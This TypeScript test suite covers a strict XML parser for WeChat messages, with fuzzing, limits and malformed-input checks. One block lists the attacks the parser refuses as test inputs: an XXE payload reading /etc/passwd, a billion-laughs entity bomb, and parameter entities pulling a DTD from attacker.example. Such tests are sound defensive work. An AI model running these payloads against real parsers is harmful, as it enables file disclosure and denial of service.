import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { XMLParser } from 'fast-xml-parser';
import { MAX_XML_DEPTH, MAX_XML_ELEMENTS, XmlParseError, parseXml } from '../../src/wechat/xml/parse-xml.js';
import type { XmlParseErrorCode } from '../../src/wechat/xml/parse-xml.js';
import { seededRandom } from '../support/seeded-random.js';
import { samples } from './message-samples.js';

/** Records have no prototype; compare them as plain JSON data. */
function plain(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value)) as unknown;
}

function fieldsOf(text: string): unknown {
  return plain(parseXml(text).fields);
}

function assertRejected(text: string, code: XmlParseErrorCode, label = text): void {
  assert.throws(
    () => parseXml(text),
    (error: unknown) => error instanceof XmlParseError && error.code === code,
    `expected ${code} for ${label}`,
  );
}

describe('parseXml: valid documents', () => {
  it('reads the typical text message', () => {
    const result = parseXml(samples.typicalText);
    assert.equal(result.root, 'xml');
    assert.deepEqual(plain(result.fields), {
      ToUserName: 'gh_3f6a2b9c1d7e',
      FromUserName: 'oabcdefghijklmnopqrstuvwxyz1',
      CreateTime: '1732400000',
      MsgType: 'text',
      Content: '请问营业时间是几点？ #5',
      MsgId: '24000000000039595',
    });
  });

  it('reads the encrypted envelope', () => {
    const fields = parseXml(samples.encryptedEnvelope).fields;
    assert.equal(fields.ToUserName, 'gh_x');
    assert.match(String(fields.Encrypt), /^q0xvBbn\/.*=$/);
  });

  it('accepts a BOM, whitespace, the XML declaration, comments and trailing whitespace', () => {
    const text = '\uFEFF \n<?xml version="1.0" encoding="UTF-8"?>\n<!-- before -->\n<xml><!-- in --><A>1</A></xml>\n<!-- after -->\n';
    assert.deepEqual(fieldsOf(text), { A: '1' });
  });

  it('keeps CDATA verbatim and trims only text outside it', () => {
    const text = '<xml><A>  <![CDATA[  two spaces\r\n<b>&amp;</b>  ]]>  </A><B>\n  plain  \n</B><C>\u3000全角空格\u3000</C></xml>';
    assert.deepEqual(fieldsOf(text), { A: '  two spaces\r\n<b>&amp;</b>  ', B: 'plain', C: '\u3000全角空格\u3000' });
  });

  it('concatenates text and CDATA segments, so a split `]]>` comes back whole', () => {
    assert.deepEqual(fieldsOf('<xml><A><![CDATA[a]]]]><![CDATA[>b]]></A></xml>'), { A: 'a]]>b' });
    assert.deepEqual(fieldsOf('<xml><A>x<![CDATA[ y ]]>z<!-- c -->w</A></xml>'), { A: 'x y zw' });
  });

  it('decodes the predefined entities and numeric references outside CDATA', () => {
    // Only a lower-case `x` introduces a hexadecimal reference.
    assertRejected('<xml><A>&#X43;</A></xml>', 'malformed');
    assert.deepEqual(fieldsOf('<xml><A>&lt;&gt;&amp;&apos;&quot;</A><B>&#65;&#x42;&#x1F600;&#0000068;</B><C>&#32;x</C></xml>'), {
      A: `<>&'"`,
      B: 'AB😀D',
      C: ' x',
    });
  });

  it('turns nested elements into records and repeated siblings into arrays, in order', () => {
    assert.deepEqual(fieldsOf(samples.picSysPhoto), {
      ToUserName: 'gh_e136c6e50636',
      FromUserName: 'oMgHVjngRipVsoxg6TuX3vz6glDg',
      CreateTime: '1408090651',
      MsgType: 'event',
      Event: 'pic_sysphoto',
      EventKey: '6',
      SendPicsInfo: {
        Count: '2',
        PicList: {
          item: [{ PicMd5Sum: '1b5f7c23b5bf75682a53e7b6d163e185' }, { PicMd5Sum: '2c6f8d34c6cf86793b64f8c7e274f296' }],
        },
      },
    });
    assert.deepEqual(fieldsOf('<xml><A>1</A><B/><A>2</A><A><C>3</C></A></xml>'), { A: ['1', '2', { C: '3' }], B: '' });
  });

  it('reads empty elements as empty strings and an empty root as no fields', () => {
    assert.deepEqual(fieldsOf('<xml><A/><B></B><C><![CDATA[]]></C><D   /></xml>'), { A: '', B: '', C: '', D: '' });
    assert.deepEqual(plain(parseXml('<xml/>')), { root: 'xml', fields: {} });
    assert.deepEqual(fieldsOf('<xml>  </xml>'), {});
    assert.deepEqual(fieldsOf('<xml>root text is not a field</xml>'), {});
  });

  it('checks attributes and ignores them', () => {
    const text = `<xml a="1" b:c='2' d = "&amp;&#65;" ><A e="x>y"/><B f='"'>v</B ></xml >`;
    assert.deepEqual(fieldsOf(text), { A: '', B: 'v' });
  });

  it('accepts non-ASCII tag names and names with `.`, `-`, `_`, `:`, digits', () => {
    assert.deepEqual(fieldsOf('<根><名字>值</名字><a.b-c_d:e9>x</a.b-c_d:e9><𐀀>y</𐀀></根>'), {
      名字: '值',
      'a.b-c_d:e9': 'x',
      '𐀀': 'y',
    });
  });

  it('keeps names such as __proto__ and constructor as plain fields, inheriting nothing', () => {
    const fields = parseXml('<xml><__proto__>p</__proto__><constructor>c</constructor><toString>t</toString></xml>').fields;
    assert.equal(fields.__proto__, 'p');
    assert.equal(fields.constructor, 'c');
    assert.equal(fields.toString, 't');
    assert.equal(({} as Record<string, unknown>).p, undefined);
    assert.equal(parseXml('<xml/>').fields.hasOwnProperty, undefined);
    assert.equal(Object.keys(fields).length, 3);
  });

  it('accepts exactly the limits', () => {
    const deep = '<a>'.repeat(MAX_XML_DEPTH) + '</a>'.repeat(MAX_XML_DEPTH);
    assert.equal(parseXml(deep).root, 'a');
    const wide = `<xml>${'<i/>'.repeat(MAX_XML_ELEMENTS - 1)}</xml>`;
    const items = parseXml(wide).fields.i;
    assert.ok(Array.isArray(items));
    assert.equal(items.length, MAX_XML_ELEMENTS - 1);
  });
});

describe('parseXml: DTDs and entities are refused', () => {
  const doctypes: Record<string, string> = {
    'XXE (external entity)':
      '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>',
    'billion laughs':
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><A>&lol3;</A></xml>',
    'parameter entities':
      '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;%send;]><xml/>',
    'DOCTYPE after the declaration': '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd">\n<xml/>',
    'lower-case doctype': '<!doctype xml><xml/>',
    'DOCTYPE after a comment': '<!-- hi --><!DocType xml><xml/>',
    'ENTITY inside an element': '<xml><!ENTITY x "y"><A>1</A></xml>',
    'ELEMENT inside an element': '<xml><A>1</A><!ELEMENT xml ANY></xml>',
    'ATTLIST': '<xml><!ATTLIST xml a CDATA #IMPLIED></xml>',
    'DOCTYPE after the root': '<xml><A>1</A></xml><!DOCTYPE xml>',
  };
  for (const [label, text] of Object.entries(doctypes)) {
    it(`refuses ${label} with code doctype`, () => assertRejected(text, 'doctype'));
  }

  it('refuses references to undeclared entities', () => {
    assertRejected('<xml><A>&xxe;</A></xml>', 'malformed');
    // `%` only means something inside a DTD; in content it is an ordinary character.
    assert.deepEqual(fieldsOf('<xml><A>%remote;</A></xml>'), { A: '%remote;' });
  });

  it('treats DTD-looking text inside CDATA or comments as characters', () => {
    assert.deepEqual(fieldsOf('<xml><!-- <!DOCTYPE x> --><Content><![CDATA[<!DOCTYPE html> &xxe;]]></Content></xml>'), {
      Content: '<!DOCTYPE html> &xxe;',
    });
  });
});

describe('parseXml: malformed input', () => {
  const malformed: Record<string, string> = {
    'empty input': '',
    'only whitespace': ' \n ',
    'no root, only a declaration': '<?xml version="1.0"?>',
    'text instead of a root': 'success',
    'text before the root': 'x<xml/>',
    'text after the root': '<xml/>x',
    'a second root': '<xml/><xml/>',
    'mismatched end tag': '<xml><A>1</B></xml>',
    'end tag with a longer name': '<xml><A>1</AB></xml>',
    'end tag with a shorter name': '<xml><AB>1</A></xml>',
    'unclosed root': '<xml><A>1</A>',
    'unclosed child': '<xml><A>1</xml>',
    'stray end tag': '</xml>',
    'end tag after the root': '<xml/></xml>',
    '`<` in text': '<xml><A>a < b</A></xml>',
    '`<` at the end': '<xml><A>a</A><',
    '`]]>` in text': '<xml><A>a]]>b</A></xml>',
    'bare ampersand': '<xml><A>AT&T</A></xml>',
    'unterminated reference': '<xml><A>&amp</A></xml>',
    'unknown entity': '<xml><A>&nbsp;</A></xml>',
    'empty numeric reference': '<xml><A>&#;</A></xml>',
    'empty hex reference': '<xml><A>&#x;</A></xml>',
    'reference to NUL': '<xml><A>&#0;</A></xml>',
    'reference to a surrogate': '<xml><A>&#xD800;</A></xml>',
    'reference to U+FFFE': '<xml><A>&#xFFFE;</A></xml>',
    'reference beyond U+10FFFF': '<xml><A>&#x110000;</A></xml>',
    'huge reference': '<xml><A>&#99999999999999999999;</A></xml>',
    'processing instruction': '<xml><?php echo 1; ?></xml>',
    'declaration not at the start': '<xml/><?xml version="1.0"?>',
    'declaration without version': '<?xml encoding="UTF-8"?><xml/>',
    'unterminated declaration': '<?xml version="1.0"<xml/>',
    'xml-stylesheet instruction': '<?xml-stylesheet href="a.xsl"?><xml/>',
    'unterminated comment': '<xml><!-- x</xml>',
    '`--` inside a comment': '<xml><!-- a -- b --></xml>',
    'comment ending in `--->`': '<xml><!-- a ---></xml>',
    'unterminated CDATA': '<xml><A><![CDATA[x</A></xml>',
    'CDATA outside the root': '<![CDATA[x]]><xml/>',
    'lower-case cdata': '<xml><A><![cdata[x]]></A></xml>',
    'bare `<!`': '<xml><!></xml>',
    'tag name starting with a digit': '<xml><1A>x</1A></xml>',
    'space after `<`': '<xml>< A>x</A></xml>',
    'empty tag': '<xml><>x</></xml>',
    'attribute without value': '<xml a><A/></xml>',
    'unquoted attribute': '<xml a=1><A/></xml>',
    'attribute without space': '<xml a="1"b="2"><A/></xml>',
    'duplicate attribute': '<xml a="1" a="2"><A/></xml>',
    'unterminated attribute': '<xml a="1><A/></xml>',
    '`<` in an attribute': '<xml a="<"><A/></xml>',
    'bad reference in an attribute': '<xml a="&xxe;"><A/></xml>',
    'slash without `>`': '<xml><A/ ></xml>',
    'attribute on an end tag': '<xml><A>1</A x="1"></xml>',
    'text mixed with children': '<xml>hello<A>1</A></xml>',
    'children mixed with text': '<xml><A>1</A>hello</xml>',
    'CDATA mixed with children': '<xml><A><![CDATA[x]]><B/></A></xml>',
    'truncated tag': '<xml><A',
  };
  for (const [label, text] of Object.entries(malformed)) {
    it(`refuses ${label}`, () => assertRejected(text, 'malformed', label));
  }

  it('refuses nesting deeper than the limit with too-deep, without recursion', () => {
    assertRejected('<a>'.repeat(MAX_XML_DEPTH + 1) + '</a>'.repeat(MAX_XML_DEPTH + 1), 'too-deep', 'depth 33');
    assertRejected('<a>'.repeat(200_000), 'too-deep', 'depth 200000');
  });

  it('refuses more elements than the limit with too-large', () => {
    assertRejected(`<xml>${'<i/>'.repeat(MAX_XML_ELEMENTS)}</xml>`, 'too-large', '10001 elements');
  });

  it('stays linear on adversarial 1 MB inputs', () => {
    // Generous bound: each case takes ~10–80 ms; a quadratic step would take minutes.
    const adversarial: Record<string, string> = {
      'many attributes': `<xml${Array.from({ length: 150_000 }, (_, index) => ` a${index}=""`).join('')}/>`,
      'many comments': `<xml>${'<!-- c -->'.repeat(100_000)}</xml>`,
      'many CDATA sections': `<xml><A>${'<![CDATA[x]]>'.repeat(75_000)}</A></xml>`,
      'many references': `<xml><A>${'&amp;'.repeat(200_000)}</A></xml>`,
      'many text segments': `<xml><A>${'a<!---->'.repeat(125_000)}</A></xml>`,
      'a long name': `<${'a'.repeat(500_000)}></${'a'.repeat(500_000)}>`,
      'long whitespace': `<xml>${' '.repeat(500_000)}x${' '.repeat(500_000)}</xml>`,
    };
    for (const [label, text] of Object.entries(adversarial)) {
      const started = performance.now();
      parseXml(text);
      assert.ok(performance.now() - started < 1500, label);
    }
  });

  it('refuses non-string input with XmlParseError', () => {
    assertRejected(undefined as unknown as string, 'malformed', 'undefined');
    assertRejected(Buffer.from('<xml/>') as unknown as string, 'malformed', 'a Buffer');
  });

  it('never quotes the input in its message', () => {
    try {
      parseXml('<xml><A>secret-user-text & more</A></xml>');
      assert.fail('expected an error');
    } catch (error) {
      assert.ok(error instanceof XmlParseError);
      assert.doesNotMatch(error.message, /secret/);
      assert.equal(typeof error.offset, 'number');
    }
  });
});

describe('parseXml agrees with fast-xml-parser on valid samples', () => {
  const reference = new XMLParser({
    ignoreAttributes: true,
    ignoreDeclaration: true,
    parseTagValue: false,
    trimValues: true,
    processEntities: true,
    // Needed for numeric character references; the samples use no HTML-only entity.
    htmlEntities: true,
  });
  const extra: Record<string, string> = {
    entities: '<xml><A>a &lt; b &amp;&amp; c &gt; d</A><B>&#20320;&#x597D;</B></xml>',
    repeats: '<xml><item><T>1</T></item><item><T>2</T></item><item><T>3</T></item><Other/></xml>',
    declaration: '<?xml version="1.0" encoding="utf-8"?>\n<xml>\n  <A>1</A>\n</xml>\n',
  };
  for (const [name, text] of [...Object.entries(samples), ...Object.entries(extra)]) {
    it(name, () => {
      const expected = reference.parse(text) as Record<string, unknown>;
      const result = parseXml(text);
      assert.deepEqual({ [result.root]: plain(result.fields) }, expected);
    });
  }
});

/** Calls parseXml and fails the test on anything thrown that is not an XmlParseError. */
function assertOnlyXmlParseError(text: string, context: string): void {
  try {
    const result = parseXml(text);
    assert.equal(typeof result.root, 'string');
    assert.equal(typeof result.fields, 'object');
  } catch (error) {
    if (!(error instanceof XmlParseError)) {
      assert.fail(`${context}: threw ${String(error)} for ${JSON.stringify(text.slice(0, 200))}`);
    }
  }
}

describe('parseXml fuzz: only XmlParseError or success', () => {
  const corpus = Object.values(samples);
  const tokens = [
    '<', '>', '/', '!', '?', '&', ';', '#', 'x', '"', "'", '=', ' ', '\n', ']]>', '<![CDATA[', '<!--', '-->', '--',
    '<!DOCTYPE x>', '<?xml version="1.0"?>', '&#x', '&#', '&amp;', '&#xD800;', '&#1114112;', '</', '/>', '<xml>',
    '</xml>', '<A>', '</A>', '\uD800', '\uDC00', '\uFEFF', '\u0000', '😀', '中', 'CDATA', '[', ']', 'a="1"',
  ];

  it('survives truncation of every sample at every position', () => {
    for (const text of corpus) {
      for (let end = 0; end <= text.length; end += 1) {
        assertOnlyXmlParseError(text.slice(0, end), `truncated at ${end}`);
        assertOnlyXmlParseError(text.slice(end), `suffix from ${end}`);
      }
    }
  });

  it('survives random mutations of valid messages', () => {
    const seed = 20241123;
    const next = seededRandom(seed);
    const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)] as T;
    for (let iteration = 0; iteration < 20_000; iteration += 1) {
      let text: string = pick(corpus);
      const mutations = 1 + Math.floor(next() * 4);
      for (let count = 0; count < mutations; count += 1) {
        const at = Math.floor(next() * (text.length + 1));
        const operation = Math.floor(next() * 5);
        if (operation === 0) text = text.slice(0, at) + pick(tokens) + text.slice(at);
        else if (operation === 1) text = text.slice(0, at) + text.slice(at + 1 + Math.floor(next() * 8));
        else if (operation === 2) text = text.slice(0, at) + String.fromCharCode(Math.floor(next() * 0x10000)) + text.slice(at + 1);
        else if (operation === 3) {
          const length = Math.floor(next() * 20);
          text = text.slice(0, at) + text.slice(at, at + length) + text.slice(at);
        } else text = text.slice(0, at);
      }
      assertOnlyXmlParseError(text, `seed ${seed} iteration ${iteration}`);
    }
  });

  it('survives random token soup', () => {
    const next = seededRandom(7);
    for (let iteration = 0; iteration < 10_000; iteration += 1) {
      let text = '';
      const length = Math.floor(next() * 30);
      for (let index = 0; index < length; index += 1) text += tokens[Math.floor(next() * tokens.length)];
      assertOnlyXmlParseError(text, `soup ${iteration}`);
    }
  });
});
